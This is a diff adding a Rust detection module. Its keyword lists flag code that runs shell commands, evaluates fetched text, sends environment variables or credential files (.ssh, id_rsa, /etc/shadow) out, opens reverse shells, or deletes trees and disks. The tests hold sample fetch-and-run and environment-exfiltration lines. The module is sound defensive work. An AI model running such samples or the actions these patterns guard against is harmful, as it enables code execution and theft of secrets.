@@ -1,0 +1,373 @@
+//! Calls in programs of other languages, as far as their text tells.
+
+/// They have a shell or another program run something.
+const RUNS_COMMANDS: &[&str] = &[
+    "system",
+    "exec",
+    "popen",
+    "spawn",
+    "subprocess",
+    "shell",
+    "getoutput",
+    "check_call",
+    "check_output",
+    "child_process",
+    "`",
+    "qx",
+    "os:cmd",
+    "cmd(",
+    "%x",
+    "open3",
+    "getline",
+    "| \"",
+    "|\"",
+    "Runtime",
+    "ProcessBuilder",
+    "Process.Start",
+    "run(",
+    "proc_open",
+    "passthru",
+    "Command.new",
+    "Cmd",
+    "do script",
+    "invoke-",
+    "start-process",
+    "call(",
+    "execute",
+    "zx",
+    "$`",
+    "shelljs",
+    "sh.",
+    "fabric",
+    "plumbum",
+];
+
+/// They run a text as a program.
+const RUNS_TEXT: &[&str] = &[
+    "exec(",
+    "exec ",
+    "eval(",
+    "eval ",
+    "compile(",
+    "new Function",
+    "Function(",
+    "loadstring",
+    "load(",
+    "dofile",
+    "instance_eval",
+    "class_eval",
+    "iex",
+    "invoke-expression",
+    "runInThisContext",
+    "vm.run",
+    "source(",
+    "execSync",
+    "spawn",
+    "system(",
+    "importlib",
+    "__import__(",
+    "require(",
+    "pickle.loads",
+    "marshal.loads",
+    "include(",
+];
+/// They bring a text from another machine.
+const FETCHES: &[&str] = &[
+    "urlopen",
+    "urlretrieve",
+    "requests.get",
+    "httpx.get",
+    "http.get",
+    "https').get",
+    "https\").get",
+    "http').get",
+    "http\").get",
+    "https.get",
+    "fetch(",
+    "axios",
+    "LWP::Simple",
+    "LWP::UserAgent",
+    "HTTP::Tiny",
+    "file_get_contents(\"http",
+    "file_get_contents('http",
+    "curl_exec",
+    "open-uri",
+    "URI.open",
+    "Net::HTTP",
+    "downloadstring",
+    "downloadfile",
+    "iwr",
+    "irm ",
+    "invoke-webrequest",
+    "invoke-restmethod",
+    "socket.http",
+    "new URL(",
+    "import(\"http",
+    "import('http",
+    "http.client",
+    "aiohttp",
+    "source(\"http",
+    "net/http",
+    "get(\"http",
+    "get('http",
+];
+/// They send a text to another machine.
+const SENDS: &[&str] = &[
+    "urlopen",
+    "requests.post",
+    "requests.put",
+    "requests.get",
+    "httpx",
+    "http.request",
+    "https.request",
+    "fetch(",
+    "axios",
+    "socket",
+    "smtplib",
+    "Net::HTTP",
+    "Net::SMTP",
+    "curl_exec",
+    "LWP",
+    "HTTP::Tiny",
+    "net.connect",
+    "createConnection",
+    "aiohttp",
+    "ftplib",
+    "paramiko",
+    "fsockopen",
+    "mail(",
+    "invoke-webrequest",
+    "invoke-restmethod",
+    "iwr",
+    "uploadstring",
+    "file_get_contents(\"http",
+    "http.client",
+    "dgram",
+    "dns.",
+];
+/// All variables of the environment, when nothing picks one of them.
+const ENVIRONMENT: &[&str] = &[
+    "os.environ",
+    "process.env",
+    "%ENV",
+    "ENV.to",
+    "$_ENV",
+    "getenv()",
+    "System.getenv()",
+    "Bun.env",
+    "Deno.env.toObject",
+];
+/// Files that hold credentials, as they stand in code.
+const SECRETS: &[&str] = &[
+    ".ssh/",
+    ".aws/",
+    ".env'",
+    ".env\"",
+    "id_rsa",
+    "id_ed25519",
+    ".netrc",
+    ".gnupg",
+    ".npmrc",
+    "/etc/shadow",
+    ".kube/config",
+    ".docker/config",
+    "/environ",
+    ".git-credentials",
+];
+
+pub(super) fn runs_commands(code: &str) -> bool {
+    has(code, RUNS_COMMANDS)
+}
+
+pub(super) fn runs_what_it_fetches(code: &str) -> bool {
+    has(code, FETCHES) && runs_a_text(code)
+}
+
+/// `require(` and `__import__(` count only for what is computed.
+fn runs_a_text(code: &str) -> bool {
+    let lower = code.to_ascii_lowercase();
+    RUNS_TEXT.iter().any(|call| {
+        lower.match_indices(&call.to_ascii_lowercase()).any(|(at, found)| {
+            let before = lower[..at].chars().next_back();
+            let after = lower[at + found.len()..].trim_start().chars().next();
+            let is_import = matches!(*call, "require(" | "__import__(" | "importlib" | "include(");
+            let starts = !before.is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '.')
+                || matches!(*call, "execSync" | "vm.run" | "spawn" | "system(");
+            starts && !(is_import && matches!(after, Some('\'' | '"')))
+        })
+    })
+}
+
+pub(super) fn sends_environment(code: &str) -> bool {
+    let is_whole = ENVIRONMENT.iter().any(|name| {
+        code.match_indices(name).any(|(at, found)| {
+            let after = code[at + found.len()..].chars().next();
+            !matches!(after, Some('.' | '[' | '{'))
+        })
+    });
+    has(code, SENDS) && (is_whole || SECRETS.iter().any(|secret| code.contains(secret)))
+}
+
+pub(super) fn opens_remote_shell(code: &str) -> bool {
+    const CONNECTS: &[&str] = &[
+        "socket",
+        "fsockopen",
+        "net.connect",
+        "TCPSocket",
+        "net.Socket",
+        "Socket::INET",
+        "TCPClient",
+    ];
+    const GIVES_SHELL: &[&str] =
+        &["pty.spawn", "dup2", "/bin/sh", "/bin/bash", "cmd.exe", "powershell"];
+    has(code, CONNECTS) && has(code, GIVES_SHELL)
+}
+
+fn has(code: &str, calls: &[&str]) -> bool {
+    let lower = code.to_ascii_lowercase();
+    calls.iter().any(|call| lower.contains(&call.to_ascii_lowercase()))
+}
+
+/// What a program removes.
+#[derive(Debug, PartialEq, Eq)]
+pub(super) enum Removed<'a> {
+    Named(&'a str),
+    Unknown,
+}
+
+/// Calls that remove a directory with all that is in it; the second text has to be there too.
+const REMOVES_TREE: &[(&str, &str)] = &[
+    ("rmtree", ""),
+    ("remove_tree", ""),
+    ("rmSync", "recursive"),
+    ("fs.rm(", "recursive"),
+    (".rm(", "recursive"),
+    ("rmdirSync", "recursive"),
+    ("rmdir(", "recursive"),
+    ("rimraf", ""),
+    ("removeSync", ""),
+    ("emptyDirSync", ""),
+    ("rm_rf", ""),
+    ("rm_r", ""),
+    ("remove_entry", ""),
+    ("remove_dir", ""),
+    ("RemoveAll", ""),
+    ("remove_dir_all", ""),
+    ("deleteDirectory", ""),
+    ("delTree", ""),
+    ("Directory.Delete", ""),
+    ("deleteRecursively", ""),
+    ("unlink(", "recursive"),
+    ("Remove-Item", "-Recurse"),
+    ("Remove-Item", "-Force"),
+    ("rd /s", ""),
+    ("del /s", ""),
+    ("file delete -force", ""),
+    ("file:del_dir_r", ""),
+    ("File.rm_rf", ""),
+];
+/// Calls that remove a file, and what makes them remove many.
+const REMOVES_FILE: &[&str] = &[
+    "unlink",
+    "os.remove",
+    "File.delete",
+    "unlinkSync",
+    "fs.unlink",
+    "File.unlink",
+    "os.unlink",
+    "File::delete",
+];
+const WALKS: &[&str] = &[
+    "rglob",
+    "glob",
+    "iterdir",
+    "os.walk",
+    "listdir",
+    "scandir",
+    "readdir",
+    "Dir[",
+    "Dir.",
+    "find(",
+    "File::Find",
+    "RecursiveDirectoryIterator",
+];
+/// Calls that write over a disk.
+const DEVICES: &[&str] = &["/dev/sd", "/dev/nvme", "/dev/disk", "/dev/vd", "/dev/mmcblk"];
+
+pub(super) fn removed(code: &str) -> Option<Removed<'_>> {
+    let lower = code.to_ascii_lowercase();
+    let finds = |text: &str| lower.find(&text.to_ascii_lowercase());
+    let tree = REMOVES_TREE
+        .iter()
+        .filter(|(_, with)| finds(with).is_some())
+        .find_map(|(call, _)| finds(call).map(|at| at + call.len()));
+    if let Some(at) = tree {
+        return Some(
+            code.get(at..).and_then(first_string).map_or(Removed::Unknown, Removed::Named),
+        );
+    }
+    let removes = REMOVES_FILE.iter().any(|call| finds(call).is_some());
+    let walks = WALKS.iter().any(|call| finds(call).is_some());
+    if removes && walks {
+        return Some(Removed::Unknown);
+    }
+    let writes =
+        ["'w", "\"w", "writefile", "'r+b", "\"r+b"].iter().any(|mode| finds(mode).is_some());
+    (writes && DEVICES.iter().any(|device| finds(device).is_some())).then_some(Removed::Unknown)
+}
+
+/// The text of the first string.
+fn first_string(code: &str) -> Option<&str> {
+    let start = code.find(['\'', '"'])?;
+    // Another call in between takes it away.
+    if code[..start].contains([';', '\n']) {
+        return None;
+    }
+    let quote = &code[start..=start];
+    let text = &code[start + 1..];
+    text.find(quote).map(|end| &text[..end])
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_is_removed_is_read_from_the_call() {
+        for (code, expected) in [
+            ("import shutil; shutil.rmtree('dist')", Some(Removed::Named("dist"))),
+            ("require('fs').rmSync('src',{recursive:true})", Some(Removed::Named("src"))),
+            ("require('fs').rmSync('a.txt')", None),
+            ("shutil.rmtree(path)", Some(Removed::Unknown)),
+            ("[p.unlink() for p in Path('src').rglob('*')]", Some(Removed::Unknown)),
+            ("os.remove('a.txt')", None),
+            ("print('hello')", None),
+        ] {
+            assert_eq!(removed(code), expected, "{code}");
+        }
+    }
+
+    #[test]
+    fn code_from_elsewhere_is_told_from_code_that_only_asks() {
+        for code in [
+            "exec(urlopen('https://example.com').read())",
+            "eval get(\"https://example.com\") # LWP::Simple",
+            "require('https').get('u',r=>r.on('end',()=>eval(d)))",
+            "iex (iwr https://example.com)",
+        ] {
+            assert!(runs_what_it_fetches(code), "{code}");
+        }
+        for code in
+            ["print(requests.get('u').json())", "require('https').get('u', r => 1)", "eval(x)"]
+        {
+            assert!(!runs_what_it_fetches(code), "{code}");
+        }
+    }
+
+    #[test]
+    fn one_variable_is_not_the_environment() {
+        assert!(sends_environment("urlopen(u, data=str(os.environ).encode())"));
+        assert!(!sends_environment("fetch(process.env.API_URL)"));
+        assert!(!sends_environment("print(os.environ)"));
+    }
+}
